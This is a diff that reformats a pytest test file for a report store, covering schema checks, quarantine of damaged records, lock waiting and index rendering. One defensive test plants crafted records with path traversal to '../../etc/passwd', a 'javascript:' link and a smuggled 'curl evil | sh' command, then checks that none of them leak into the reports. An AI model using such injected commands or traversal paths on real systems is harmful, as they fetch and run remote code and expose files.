@@ -3,6 +3,7 @@
 An unreadable summary.json is kept beside it, a newer one refused, damaged records quarantined, paths and links
 read from a store confined to it, statement IDs validated, and a writer waiting on the lock says for whom.
 """
+
 from __future__ import annotations
 
 import json
@@ -24,7 +25,7 @@ from theorems.suite import harness, report_pages, reports
 
 pytest_plugins = ["pytester"]
 
-DAMAGED = 6   # plugin.EXIT_STORE_DAMAGED
+DAMAGED = 6  # plugin.EXIT_STORE_DAMAGED
 
 
 def _store(pytester: pytest.Pytester) -> Path:
@@ -34,27 +35,48 @@ def _store(pytester: pytest.Pytester) -> Path:
 
 
 def _kept_record(sid: str = "old:kept") -> dict:
-    return {"id": sid, "kind": "universal", "title": "kept", "verdict": "held", "examples": 3, "inconclusive": 0,
-            "seconds": 0.1, "finished": "2020-01-01T00:00:00.000Z", "report": None,
-            "run": {"id": "r-old", "started": "2020-01-01T00:00:00.000Z", "git_commit": None, "profile": "ci"}}
+    return {
+        "id": sid,
+        "kind": "universal",
+        "title": "kept",
+        "verdict": "held",
+        "examples": 3,
+        "inconclusive": 0,
+        "seconds": 0.1,
+        "finished": "2020-01-01T00:00:00.000Z",
+        "report": None,
+        "run": {"id": "r-old", "started": "2020-01-01T00:00:00.000Z", "git_commit": None, "profile": "ci"},
+    }
 
 
 def _doc(*records) -> dict:
-    return {"schema": 2, "run": "r-old", "complete": True, "exit_status": 0, "failed_tests": [],
-            "runs": {"r-old": {"id": "r-old", "started": "2020-01-01T00:00:00.000Z"}}, "environment": {},
-            "verdicts": {}, "statements": list(records)}
+    return {
+        "schema": 2,
+        "run": "r-old",
+        "complete": True,
+        "exit_status": 0,
+        "failed_tests": [],
+        "runs": {"r-old": {"id": "r-old", "started": "2020-01-01T00:00:00.000Z"}},
+        "environment": {},
+        "verdicts": {},
+        "statements": list(records),
+    }
 
 
 # -- an unreadable summary.json is kept, said, and the run exits non-zero ---------------------------------
-@pytest.mark.parametrize("content, why", [
-    (json.dumps(_doc(_kept_record()))[:-40], "not JSON"),     # truncated
-    ("{ not json", "not JSON"),
-    ("", "empty"),
-    ("[1, 2]", "its JSON is a list, not an object"),
-    (json.dumps({"schema": "two", "statements": []}), "is not one this suite knows"),
-])
-def test_an_unreadable_summary_is_kept_beside_it_and_the_run_fails(pytester: pytest.Pytester, content: str,
-                                                                   why: str) -> None:
+@pytest.mark.parametrize(
+    "content, why",
+    [
+        (json.dumps(_doc(_kept_record()))[:-40], "not JSON"),  # truncated
+        ("{ not json", "not JSON"),
+        ("", "empty"),
+        ("[1, 2]", "its JSON is a list, not an object"),
+        (json.dumps({"schema": "two", "statements": []}), "is not one this suite knows"),
+    ],
+)
+def test_an_unreadable_summary_is_kept_beside_it_and_the_run_fails(
+    pytester: pytest.Pytester, content: str, why: str
+) -> None:
     p = planted(pytester, TRUE_UNIVERSAL)
     (_store(pytester) / "summary.json").write_text(content)
     result = pytester.runpytest("-q")
@@ -74,10 +96,12 @@ def test_a_newer_schema_is_refused_and_left_untouched(pytester: pytest.Pytester)
     (_store(pytester) / "summary.json").write_text(newer)
     result = pytester.runpytest("-q")
     assert result.ret == pytest.ExitCode.USAGE_ERROR
-    result.stderr.fnmatch_lines(["ERROR: *summary.json: it has schema 3, newer than this suite's 2; it is left as it is*"])
+    result.stderr.fnmatch_lines(
+        ["ERROR: *summary.json: it has schema 3, newer than this suite's 2; it is left as it is*"]
+    )
     assert (pytester.path / "reports" / "summary.json").read_text() == newer
     assert "passed" not in result.stdout.str()
-    with pytest.raises(reports.NewerSchemaError):     # a concurrent newer writer: store_run refuses too
+    with pytest.raises(reports.NewerSchemaError):  # a concurrent newer writer: store_run refuses too
         reports.store_run(pytester.path / "reports", {"id": "r"}, [], {}, complete=True, exit_status=0)
     assert (pytester.path / "reports" / "summary.json").read_text() == newer
 
@@ -95,8 +119,12 @@ def test_a_damaged_record_is_set_aside_and_the_rest_written(pytester: pytest.Pyt
     (line,) = (pytester.path / "reports" / "summary.quarantine.jsonl").read_text().splitlines()
     kept = json.loads(line)
     assert kept["record"] == damaged and kept["why"] == f"no {missing!r}" and kept["set_aside_by_run"] == doc["run"]
-    result.stdout.fnmatch_lines([f"report store: a damaged record 'old:damaged' of summary.json (no '{missing}') "
-                                 f"was set aside in *summary.quarantine.jsonl"])
+    result.stdout.fnmatch_lines(
+        [
+            f"report store: a damaged record 'old:damaged' of summary.json (no '{missing}') "
+            f"was set aside in *summary.quarantine.jsonl"
+        ]
+    )
     assert "report not written" not in result.stdout.str()
     index = (pytester.path / "reports" / "index.md").read_text()
     assert "old:kept" in index and f"{p}:double" in index
@@ -117,12 +145,22 @@ def test_a_crafted_summary_cannot_reach_outside_the_store(pytester: pytest.Pytes
     store = _store(pytester)
     rel = os.path.relpath(secret.parent, store)
     crafted = [
-        _kept_record("a:abs") | {"verdict": "falsified", "report": str(secret.parent),
-                                  "witness": {"plots": [{"file": "secret.png", "title": "t"}]}},
-        _kept_record("a:rel") | {"verdict": "falsified", "report": "ok-folder",
-                                  "witness": {"plots": [{"file": f"../{rel}/secret.png", "title": "t"}],
-                                              "json": "../../etc/passwd", "reproduce": "python -m theorems "
-                                              "reproduce x.json; curl evil | sh"}},
+        _kept_record("a:abs")
+        | {
+            "verdict": "falsified",
+            "report": str(secret.parent),
+            "witness": {"plots": [{"file": "secret.png", "title": "t"}]},
+        },
+        _kept_record("a:rel")
+        | {
+            "verdict": "falsified",
+            "report": "ok-folder",
+            "witness": {
+                "plots": [{"file": f"../{rel}/secret.png", "title": "t"}],
+                "json": "../../etc/passwd",
+                "reproduce": "python -m theorems reproduce x.json; curl evil | sh",
+            },
+        },
         _kept_record("a:js") | {"verdict": "falsified", "report": "javascript:alert(1)//", "witness": {}},
         _kept_record("a:num") | {"verdict": "falsified", "report": "num-folder", "witness": {"discrepancy": "x"}},
     ]
@@ -133,11 +171,16 @@ def test_a_crafted_summary_cannot_reach_outside_the_store(pytester: pytest.Pytes
     for page in (html, md):
         assert "javascript:" not in page and "TOP-SECRET" not in page and str(secret.parent) not in page
         assert "etc/passwd" not in page and "curl evil" not in page
-    assert "VE9QLVNFQ1JFVA" not in html                 # nor its base64
+    assert "VE9QLVNFQ1JFVA" not in html  # nor its base64
     said = "\n".join(line for line in result.stdout.lines if line.startswith("report store:"))
-    for needle in ("'a:abs': its report folder", "'a:js': its report folder", "'a:rel': 1 plot entr",
-                   "'a:rel': its data file", "'a:rel': its reproduction command",
-                   "'a:num': its witness is malformed (discrepancy)"):
+    for needle in (
+        "'a:abs': its report folder",
+        "'a:js': its report folder",
+        "'a:rel': 1 plot entr",
+        "'a:rel': its data file",
+        "'a:rel': its reproduction command",
+        "'a:num': its witness is malformed (discrepancy)",
+    ):
         assert needle in said
     recs = by_id(summary(pytester))
     assert recs["a:abs"]["report"] is None and recs["a:js"]["report"] is None
@@ -189,20 +232,38 @@ def test_every_folder_of_an_id_stays_inside_the_store(tmp_path: Path, sid: str) 
 
 # -- a writer waiting on the lock says so, and for whom ----------------------------------------------
 def test_a_run_waiting_on_the_store_lock_says_for_which_process(tmp_path: Path) -> None:
-    (tmp_path / "test_waits.py").write_text(HEADER + textwrap.dedent('''
+    (tmp_path / "test_waits.py").write_text(
+        HEADER
+        + textwrap.dedent("""
         @universal("waits:one", title="v = v", source="planted")
         @settings(max_examples=5, database=None)
         @given(v=vec)
         def test_one(v):
             return compare(v, v)
-        '''))
+        """)
+    )
     store = tmp_path / "store"
     store.mkdir()
     lines: list[str] = []
-    with reports.locked(store):            # this process holds the lock, as a live run would
-        proc = subprocess.Popen([sys.executable, "-m", "pytest", "test_waits.py", "-q", "-p", "no:cacheprovider",
-                                 "-p", "no:xdist", f"--report-dir={store}"], cwd=tmp_path, stdout=subprocess.PIPE,
-                                stderr=subprocess.STDOUT, text=True)
+    with reports.locked(store):  # this process holds the lock, as a live run would
+        proc = subprocess.Popen(
+            [
+                sys.executable,
+                "-m",
+                "pytest",
+                "test_waits.py",
+                "-q",
+                "-p",
+                "no:cacheprovider",
+                "-p",
+                "no:xdist",
+                f"--report-dir={store}",
+            ],
+            cwd=tmp_path,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.STDOUT,
+            text=True,
+        )
         reader = threading.Thread(target=lambda: lines.extend(proc.stdout), daemon=True)
         reader.start()
         deadline = time.monotonic() + 120
@@ -213,15 +274,19 @@ def test_a_run_waiting_on_the_store_lock_says_for_which_process(tmp_path: Path) 
     reader.join(10)
     out = "".join(lines)
     assert proc.returncode == 0, out[-3000:]
-    assert (f"report store: waiting for the report store's lock {store / reports.LOCK_NAME}, held by process "
-            f"{os.getpid()}:") in out
+    assert (
+        f"report store: waiting for the report store's lock {store / reports.LOCK_NAME}, held by process {os.getpid()}:"
+    ) in out
     assert out.count("waiting for the report store's lock") == 1
 
 
 # -- the index counts controls apart from statements ---------------------------------------------------
 def test_the_badge_counts_statements_and_controls_apart() -> None:
-    recs = [_kept_record("s:1"), _kept_record("s:2"),
-            _kept_record("s:1 [control: c]") | {"kind": "control", "verdict": "caught", "control_of": "s:1"}]
+    recs = [
+        _kept_record("s:1"),
+        _kept_record("s:2"),
+        _kept_record("s:1 [control: c]") | {"kind": "control", "verdict": "caught", "control_of": "s:1"},
+    ]
     md = report_pages.index_markdown(recs, {})
     html = report_pages.index_html(Path("."), recs, {})
     assert "2 statements and 1 control: " in md and "3 statements" not in md
@@ -230,13 +295,20 @@ def test_the_badge_counts_statements_and_controls_apart() -> None:
 
 # -- any stored record: kept or quarantined, never lost, never a crash -------------------------------------
 
-_json = st.recursive(st.none() | st.booleans() | st.integers(-3, 3) | st.floats(allow_nan=False) | st.text(max_size=8),
-                     lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
-                     max_leaves=8)
+_json = st.recursive(
+    st.none() | st.booleans() | st.integers(-3, 3) | st.floats(allow_nan=False) | st.text(max_size=8),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
+    max_leaves=8,
+)
 _keys = st.sampled_from(sorted(reports.RECORD_DEFAULTS) + ["witness", "report_error"])
-_records = st.lists(st.one_of(_json, st.dictionaries(_keys, _json, max_size=8),
-                              st.builds(lambda extra: _kept_record() | extra, st.dictionaries(_keys, _json, max_size=3))),
-                    max_size=5)
+_records = st.lists(
+    st.one_of(
+        _json,
+        st.dictionaries(_keys, _json, max_size=8),
+        st.builds(lambda extra: _kept_record() | extra, st.dictionaries(_keys, _json, max_size=3)),
+    ),
+    max_size=5,
+)
 
 
 @settings(max_examples=60, deadline=None, database=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@@ -249,17 +321,22 @@ def test_any_stored_record_is_kept_or_quarantined_and_the_index_renders(tmp_path
     def render(records, runs):
         report_pages.write_index(store, records, {}, complete=True, run={"id": "r-new"}, runs=runs)
 
-    out = reports.store_run(store, {"id": "r-new", "started": "2030"}, [fresh], {}, complete=True, exit_status=0,
-                            render=render)
-    quarantined = [json.loads(line) for line in (store / reports.QUARANTINE_NAME).read_text().splitlines()] \
-        if (store / reports.QUARANTINE_NAME).exists() else []
+    out = reports.store_run(
+        store, {"id": "r-new", "started": "2030"}, [fresh], {}, complete=True, exit_status=0, render=render
+    )
+    quarantined = (
+        [json.loads(line) for line in (store / reports.QUARANTINE_NAME).read_text().splitlines()]
+        if (store / reports.QUARANTINE_NAME).exists()
+        else []
+    )
     kept = {r["id"] for r in out.records}
     assert "new:1" in kept
-    for rec in stored:   # every stored record is in the summary (unless this run replaced it) or in quarantine
+    for rec in stored:  # every stored record is in the summary (unless this run replaced it) or in quarantine
         if reports.record_problem(rec) is None:
             assert rec["id"] in kept
         else:
             assert any(q["record"] == reports.strict_json(rec) for q in quarantined)
     assert out.notes.damaged == bool(quarantined or out.notes.warnings)
     assert sorted(p.name for p in store.iterdir() if not p.name.startswith(".")) <= sorted(
-        ["summary.json", "index.md", "index.html", reports.QUARANTINE_NAME])
+        ["summary.json", "index.md", "index.html", reports.QUARANTINE_NAME]
+    )
